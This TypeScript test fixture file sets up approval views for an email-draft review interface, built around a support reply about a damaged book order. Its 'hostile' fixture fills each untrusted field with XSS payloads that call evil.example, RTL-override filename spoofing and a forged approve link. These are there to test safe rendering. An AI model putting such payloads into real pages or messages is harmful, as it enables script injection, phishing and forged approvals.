import type { CardedView } from "#src/channels/approvalDecisions.ts";
import type { ApprovalView } from "#src/channels/approvalView.ts";
import { reviewCard } from "#src/channels/card/reviewCard.ts";
import type { DraftContent } from "#streams/draft/content.ts";

/** Approval views for tests: ordinary ones, and ones with what a stranger would try. */

/** Adds to a view the card that pages and channels show. */
export const carded = <View extends ApprovalView>(view: View): View & CardedView => ({
  ...view,
  card: reviewCard(view),
});

export const content: DraftContent = {
  from: { name: "Harbour Books Support", address: "support@agents.harbour.example" },
  reply_to: null,
  to: ["marta.lind@posten.example"],
  cc: [],
  bcc: [],
  subject: "Re: Order 48213 arrived damaged",
  body_text:
    "Dear Marta,\n\nI am sorry that the atlas arrived with a torn cover. A new copy leaves our warehouse tomorrow, at no cost to you.\n\nPlease keep the damaged one: there is no need to send it back.\n\nKind regards",
  body_html: null,
  signature_text: "Harbour Books\nQuay 4, Gothenburg",
  signature_html: null,
  in_reply_to: "<48213.a@posten.example>",
  references: ["<48213.a@posten.example>"],
  attachments: [],
};

export const ordinary: ApprovalView = {
  draftId: "01937b5e-7d44-7000-8000-000000000001",
  version: 1,
  contentSha256: "3fa9c1e07b2d5548a1c06f7788e2d9b4c5a6f0132e4d7b8890abcdef12345678",
  status: "pending",
  threadSubject: "Order 48213 arrived damaged",
  identity: { displayName: "Harbour Books Support", address: "support@agents.harbour.example" },
  content,
  textDerived: false,
  htmlRemoved: [],
  attachments: [],
  previous: null,
  changesMade: null,
  changesRequested: null,
  editByChannel: false,
  namedOnly: false,
  rationale:
    "The photo shows a torn cover. Our policy replaces damaged books under 80 EUR without a return; this one cost 42 EUR.",
  answers: {
    fromName: "Marta Lind",
    fromEmail: "marta.lind@posten.example",
    receivedAt: "2026-11-20T08:14:00.000Z",
    subject: "Order 48213 arrived damaged",
    newText:
      "Hello,\n\nthe atlas came today and its cover is torn across the front. I attach a photo. Can I have a new one?\n\nMarta",
    quotedText: "> Your order 48213 has left our warehouse.\n> Track it at https://track.example/48213",
    authentication: { spf: "pass", dkim: "pass", dmarc: "pass", aligned: true },
    attachments: [
      {
        name: "torn-cover.jpg",
        size: 240_000,
        declaredType: "image/jpeg",
        kind: null,
        warning: null,
        download: null,
      },
    ],
  },
  participants: ["marta.lind@posten.example", "support@agents.harbour.example"],
  warnings: [],
  hints: [],
  sendsOnApproval: true,
  humanRequired: true,
  newerMessage: null,
  answeredMeanwhile: null,
  otherDrafts: [],
  decided: null,
  expiresAt: "2026-11-23T09:00:00.000Z",
  escalatesAt: null,
  shownAt: "2026-11-20T09:00:00.000Z",
};

export const newer: NonNullable<ApprovalView["newerMessage"]> = {
  fromName: "Marta Lind",
  fromEmail: "marta.lind@posten.example",
  receivedAt: "2026-11-20T09:40:00.000Z",
  subject: "Re: Order 48213 arrived damaged",
  newText: "Please wait: my neighbour has just given me her copy. I would rather have the money back.",
};

export const withHtml: ApprovalView = {
  ...ordinary,
  version: 3,
  content: {
    ...content,
    body_text: "Dear Marta, a new copy is on its way.",
    body_html:
      '<html><body><h2>Good news</h2><p style="color:#fff">Dear Marta, a <b>new copy</b> is on its way: <a href="https://harbour.example/r?o=48213&amp;c=2">follow it here</a>.</p><table border="1"><tr><th>Book</th><th>Price</th></tr><tr><td>Atlas</td><td>0 EUR</td></tr></table><img src="https://tracker.example/p.gif" alt="our shop"></body></html>',
    signature_html: "<p><b>Harbour Books</b><br>Quay 4, Gothenburg</p>",
    cc: ["claims@harbour.example", "a.person@courier.example"],
    bcc: ["archive@harbour.example"],
    reply_to: "claims@harbour.example",
    attachments: [{ filename: "label.pdf", content_type: "application/pdf", sha256: "ab".repeat(32) }],
  },
  attachments: [
    { name: "label.pdf", size: 18_700, declaredType: "application/pdf", kind: null, warning: null, download: null },
  ],
};

const quoted = ordinary.answers?.newText.split("\n").map((line) => `> ${line}`);

/** A third version with changes, a quotation, files, hints, and a second approver to be asked. */
export const changed: ApprovalView = {
  ...ordinary,
  version: 3,
  content: {
    ...content,
    cc: ["claims@courier.example"],
    body_text: `Dear Marta,\n\nI am sorry that the atlas arrived with a torn cover. A new copy leaves our warehouse on Monday, at no cost to you: https://harbour.example/track/48213\n\nPlease keep the damaged one: there is no need to send it back.\n\nKind regards\n\nOn 20 Nov 2026, Marta Lind wrote:\n${quoted?.join("\n")}`,
    attachments: [
      { filename: "label.pdf", content_type: "application/pdf", sha256: "ab".repeat(32) },
      { filename: "bill.pdf", content_type: "application/pdf", sha256: "cd".repeat(32) },
    ],
  },
  htmlRemoved: [{ what: "image:remote", count: 2 }],
  attachments: [
    { name: "label.pdf", size: 18_700, declaredType: "application/pdf", kind: null, warning: null, download: "1" },
    {
      name: "bill.pdf",
      size: 2_400_000,
      declaredType: "application/pdf",
      kind: "a program",
      warning: "It is called a PDF and can run code.",
      download: null,
    },
  ],
  previous: { version: 1, content, textDerived: false, rationale: ordinary.rationale, because: ["edit"] },
  hints: [{ kind: "addresses_agent", sentence: "It speaks to the agent instead of a person." }],
  escalatesAt: "2026-11-20T09:45:00.000Z",
};

export const rightToLeft: ApprovalView = {
  ...ordinary,
  content: {
    ...content,
    to: ["noa@example.co.il"],
    subject: "Re: הזמנה 48213 הגיעה פגומה",
    body_text: "נועה שלום,\n\nצר לנו שהאטלס הגיע עם כריכה קרועה. עותק חדש (ISBN 978-1-4028-9462-6) יישלח מחר.\n\nבברכה",
  },
  answers: {
    ...ordinary.answers!,
    fromName: "נועה כהן",
    fromEmail: "noa@example.co.il",
    subject: "הזמנה 48213 הגיעה פגומה",
    newText: "שלום, האטלס הגיע היום והכריכה קרועה.",
  },
};

/** Markup that loads from elsewhere; `hostile` has it in each text that a stranger can write, with direction marks and links. */
export const attack = `"><script src="https://evil.example/x.js"></script><img src=https://evil.example/p.gif onerror=alert(1)>'`;

export const hostile: ApprovalView = {
  ...ordinary,
  identity: { displayName: `Support${attack}`, address: "support@agents.harbour.example" },
  content: {
    ...content,
    from: { name: `Support${attack}`, address: "support@agents.harbour.example" },
    to: ["pay\u202etset@evil.example", `"${attack}"@evil.example`],
    subject: `Re: ${attack}\u202egpj.exe\u0000`,
    body_text: `Open https://evil.example/login now, or www.evil.example\u0000\u202e\u200b\u200b\u200b</div></textarea>${attack}`,
    body_html: `<p onmouseover="alert(1)">Hi&#x202e; <a href="javascript:alert(1)">there</a>${attack}</p><form action="https://evil.example/"><input name=a></form><iframe src="https://evil.example/"></iframe><svg onload=alert(1)></svg><link rel=stylesheet href="https://evil.example/a.css"><style>@import url(https://evil.example/b.css)</style><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/"><object data="https://evil.example/"></object><video src="https://evil.example/v"></video><div style="background:url(https://evil.example/bg)">x</div>`,
    attachments: [{ filename: `bill\u202efdp.exe${attack}`, content_type: "application/pdf", sha256: "cd".repeat(32) }],
    in_reply_to: `<a${attack}@x>`,
    references: [`<a${attack}@x>`],
  },
  threadSubject: `${attack}\u202egpj.exe\u0000`,
  htmlRemoved: [{ what: `element:${attack}`, count: 2 }],
  attachments: [
    {
      name: `bill\u202efdp.exe${attack}`,
      size: 3,
      declaredType: `application/pdf${attack}`,
      kind: `a program${attack}`,
      warning: `It can run code${attack}`,
      download: null,
    },
  ],
  hints: [{ kind: "addresses_agent", sentence: `It speaks to the agent${attack}\u202e` }],
  rationale: `Because${attack}\n\nAPPROVE & SEND\nhttps://evil.example/a/forged?d=approve`,
  answers: {
    ...ordinary.answers!,
    fromName: `Marta${attack}`,
    fromEmail: `marta${attack}@evil.example`,
    subject: attack,
    newText: `${attack}\u202e`,
    quotedText: attack,
    authentication: { spf: "fail", dkim: "none", dmarc: "fail", aligned: false },
    attachments: [
      { name: `a\u202e${attack}`, size: 1, declaredType: attack, kind: null, warning: attack, download: null },
    ],
  },
  warnings: [{ kind: "message_note", sentence: `Careful${attack}` }],
  newerMessage: { ...newer, fromName: `Marta${attack}`, subject: attack, newText: `${attack} https://evil.example/` },
};

export const longWords: ApprovalView = {
  ...ordinary,
  content: {
    ...content,
    subject: `Re: ${"Donaudampfschifffahrtsgesellschaft".repeat(8)}`,
    body_text: `${"x".repeat(700)}\n\n${"A long paragraph of many words that goes on. ".repeat(400)}`,
    to: [`${"very-long-local-part-".repeat(3)}@${"sub.".repeat(20)}example.com`],
    cc: Array.from({ length: 12 }, (_, n) => `person.number.${n}@partner.example`),
  },
};
